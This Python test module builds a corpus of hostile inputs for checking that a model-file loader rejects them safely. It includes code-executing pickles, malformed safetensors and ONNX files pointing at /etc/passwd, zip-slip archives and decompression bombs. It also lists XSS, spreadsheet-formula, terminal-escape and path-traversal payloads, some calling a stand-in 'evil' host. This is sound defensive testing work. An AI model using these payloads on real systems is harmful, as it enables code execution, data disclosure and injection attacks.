"""S1–S8, S15, S16: files and names made to do harm; a canary tells whether they did.

Every corpus is a list of (name, what is tried); what is tried must raise an error of ours or do
nothing, and the canary file must not be there afterwards.
"""

import codecs
import io
import json
import os
import pickle
import struct
import zipfile
from pathlib import Path

import numpy as np

# -- S1: pickles that run code --------------------------------------------------------------------


class Runs:
    """A pickle whose loading makes the canary."""

    def __init__(self, function, *arguments):
        self.call = function, arguments

    def __reduce__(self):
        return self.call


def pickles(canary):
    """Bytes of pickles, by name, each of which would make the canary if anything unpickled it."""
    touch = f"open({str(canary)!r}, 'w').close()"
    calls = {
        "os.system": Runs(os.system, f"touch {canary}"),
        "open": Runs(open, str(canary), "w"),
        "exec": Runs(exec, touch),
        "eval": Runs(eval, f"__import__('os').system('touch {canary}')"),
        "codecs": Runs(codecs.encode, touch, "rot13"),
        "Path.touch": Runs(Path.touch, Path(canary)),
    }
    found = {}
    for name, call in calls.items():
        for protocol in range(6):
            found[f"{name} {protocol}"] = pickle.dumps({"weight": call}, protocol)
    found["global text"] = b"cos\nsystem\n(S'touch " + str(canary).encode() + b"'\ntR."
    found["inst"] = b"(S'touch " + str(canary).encode() + b"'\nios\nsystem\n."
    found["build"] = b"ccollections\nOrderedDict\n)R}X\x01\x00\x00\x00acos\nsystem\nsb."
    found["memo"] = b"cos\nsystem\nq\x000h\x00(S'touch " + str(canary).encode() + b"'\ntR."
    found["stack global"] = pickle.dumps(Runs(os.system, f"touch {canary}"), 4)
    found["ext"] = b"\x80\x02\x82\x01."
    found["persistent id"] = b"\x80\x02X\x04\x00\x00\x00evilQ."
    found["next buffer"] = b"\x80\x05\x97."
    found["torch names"] = b"\x80\x02ctorch\nload\nX\x01\x00\x00\x00x\x85R."
    found["hooks"] = b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n(cos\nsystem\nK\x00))\x89NtR."
    return found


def disguised(content):
    """The same pickle as files that torch, numpy, joblib and zip archives would read."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as made:
        made.writestr("archive/data.pkl", content)
        made.writestr("archive/version", "3")
    array = io.BytesIO()
    head = {"descr": "|O", "fortran_order": False, "shape": (1,)}
    np.lib.format.write_array_header_1_0(array, head)
    return {".pth": content, ".zip.pth": archive.getvalue(), ".npy": array.getvalue() + content}


# -- S3: safetensors ------------------------------------------------------------------------------


def safetensors():
    """Headers that lie, by name."""

    def file(header, body=b"", length=None):
        text = header if isinstance(header, bytes) else json.dumps(header).encode()
        return struct.pack("<Q", len(text) if length is None else length) + text + body

    def entry(shape, offsets, dtype="F32"):
        return {"dtype": dtype, "shape": shape, "data_offsets": offsets}

    good = entry([1], [0, 4])
    return {
        "oversize header": file({}, length=1 << 62),
        "header beyond the file": file({"a": good}, length=10_000),
        "no header": b"\x00" * 7,
        "overlap": file({"a": entry([2], [0, 8]), "b": entry([2], [4, 12])}, bytes(12)),
        "gap": file({"a": good, "b": entry([1], [8, 12])}, bytes(12)),
        "twice": file(b'{"a":%s,"a":%s}' % ((json.dumps(good).encode(),) * 2), bytes(4)),
        "backwards": file({"a": entry([1], [4, 0])}, bytes(4)),
        "negative": file({"a": entry([-1], [0, 4])}, bytes(4)),
        "1e18": file({"a": entry([10**18], [0, 4 * 10**18])}, bytes(4)),
        "empty of 1e18": file({"a": entry([0, 10**18, 10**18], [0, 0])}),
        "many axes": file({"a": entry([1] * 1000, [0, 4])}, bytes(4)),
        "float shape": file({"a": entry([1.0], [0, 4])}, bytes(4)),
        "text shape": file({"a": entry("1", [0, 4])}, bytes(4)),
        "nan": file(b'{"a":{"dtype":"F32","shape":[NaN],"data_offsets":[0,4]}}', bytes(4)),
        "deep": file(b"[" * 100_000 + b"]" * 100_000),
        "huge number": file(b'{"a":' + b"9" * 5000 + b"}"),
        "unknown type": file({"a": entry([1], [0, 4], "F4_E2M1")}, bytes(4)),
        "list": file([1, 2]),
        "text": file(b"hello"),
        "metadata list": file({"__metadata__": [1], "a": good}, bytes(4)),
        "tail": file({"a": good}, bytes(9)),
        "not utf-8": file(b"\xff\xfe{}"),
    }


# -- S4: graphs that name other files -------------------------------------------------------------


def graphs(folder):
    """ONNX graphs whose weights lie elsewhere, by name."""
    import onnx
    from onnx import TensorProto, helper

    (folder / "secret.bin").write_bytes(bytes(16))
    places = {
        "beside": "secret.bin", "above": "../secret.bin", "absolute": str(folder / "secret.bin"),
        "passwd": "/etc/passwd", "dots": "a/../../secret.bin", "url": "file:///etc/passwd",
    }  # fmt: skip
    found = {}
    for name, place in places.items():
        for where in ("initializer", "constant", "subgraph"):
            tensor = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[4])
            tensor.data_location = TensorProto.EXTERNAL
            tensor.external_data.add(key="location", value=place)
            found[f"{name} {where}"] = _graph(helper, onnx, tensor, where)
    return found


def _graph(helper, onnx, tensor, where):
    value = helper.make_tensor_value_info("y", onnx.TensorProto.FLOAT, [4])
    x = helper.make_tensor_value_info("pixels", onnx.TensorProto.FLOAT, [4])
    held, nodes = [], [helper.make_node("Add", ["pixels", "w"], ["y"])]
    if where == "initializer":
        held = [tensor]
    elif where == "constant":
        nodes.insert(0, helper.make_node("Constant", [], ["w"], value=tensor))
    else:
        out = helper.make_tensor_value_info("z", 1, [4])
        copy = helper.make_node("Identity", ["w"], ["z"])
        inner = helper.make_graph([copy], "in", [], [out], [tensor])
        nodes = [helper.make_node("If", ["c"], ["y"], then_branch=inner, else_branch=inner)]
    model = helper.make_model(helper.make_graph(nodes, "g", [x], [value], held))
    return model.SerializeToString()


# -- S5: archives ---------------------------------------------------------------------------------

MEMBERS = {
    "above": "../evil.png", "far above": "a/../../../evil.png", "absolute": "/tmp/evil.png",
    "drive": "C:\\evil.png", "backslash": "..\\evil.png", "mixed": "a\\..\\..\\evil.png",
}  # fmt: skip


def archives():
    """Archives that would write outside their folder, or fill the disk; by name."""
    found = {}
    for name, member in MEMBERS.items():
        found[name] = _archive({member: b"evil"})
    found["bomb"] = _archive({"big.png": bytes(50_000_000)})
    found["lying bomb"] = _lying(_archive({"big.png": bytes(2_000_000)}))
    link = zipfile.ZipInfo("link")
    link.external_attr = 0o120777 << 16
    found["link"] = _archive({link: b"/etc/passwd"})
    found["damaged"] = _archive({"a.png": b"x" * 100})[:-30]
    return found


def _archive(members):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members.items():
            made.writestr(name, content)
    return file.getvalue()


def _lying(content):
    """Say in both headers that a member has 10 bytes."""
    size = struct.pack("<I", 2_000_000)
    return content.replace(size, struct.pack("<I", 10))


# -- S6: pictures that unfold ---------------------------------------------------------------------


def bombs():
    """Small files of large pictures, by name."""
    from PIL import Image

    def encoded(picture, format, **options):
        file = io.BytesIO()
        picture.save(file, format, **options)
        return file.getvalue()

    large = Image.new("1", (20_000, 20_000))
    return {
        "png": encoded(large, "PNG", optimize=False),
        "tiff": encoded(large, "TIFF", compression="group4"),
        "gif": b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + bytes(20),
        "bmp": b"BM" + struct.pack(
            "<IHHIIiiHHIIiiII", 54, 0, 0, 54, 40, 60_000, 60_000, 1, 24, 0, 0, 0, 0, 0, 0
        ),
        "jpeg": encoded(Image.new("RGB", (8, 8)), "JPEG").replace(
            struct.pack(">HH", 8, 8), struct.pack(">HH", 65_500, 65_500)
        ),
    }  # fmt: skip


# -- S7, S8: names --------------------------------------------------------------------------------

MARKUP = [
    "<script>CANARY()</script>", "<img src=x onerror=CANARY()>", "<svg/onload=CANARY()>",
    "\"><script>CANARY()</script>", "'><img src=x onerror=CANARY()>", "javascript:CANARY()",
    "</script><script>CANARY()</script>", "<!--<script>CANARY()//-->",
    "]]><script>CANARY()</script>",
    "<iframe srcdoc='<script>CANARY()</script>'>", "<a href=javascript:CANARY()>x</a>",
    "<math><mtext></mtext><script>CANARY()</script></math>", "{{CANARY()}}", "${CANARY()}",
    "<style>@import 'http://evil'</style>", "<link rel=stylesheet href=http://evil>",
    "<base href=http://evil>", "<meta http-equiv=refresh content='0;url=http://evil'>",
    "<details open ontoggle=CANARY()>", "<input autofocus onfocus=CANARY()>", "\u2028alert(1)",
    "<object data=http://evil>", "<form action=http://evil><button>", "&lt;script&gt;",
    "<script src=http://evil></script>", "<template><script>CANARY()</script></template>",
]  # fmt: skip

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@A1",
    "=IMPORTXML(1)",
    " =1+1", "＝1+1", "\x00=1+1",
]  # fmt: skip

CONTROLS = ["\x1b[2J", "\x1b]0;title\x07", "\x1b]8;;http://evil\x07x", "\x9b31m", "a\rb",
            "\x08" * 9, "\x07", "\x00", "\u202egpj.exe", "\u2066x", "a\nb"]  # fmt: skip

# -- S15: names that leave their folder -----------------------------------------------------------

PATHS = [
    "../evil", "..", ".", "/etc/passwd", "a/../../evil", "a/b", "~/evil", "..\\evil", "a\x00b", "",
    "a" * 5000, "%2e%2e/evil", "....//evil", "C:\\evil", "\\\\host\\share", "a\nb",
]  # fmt: skip
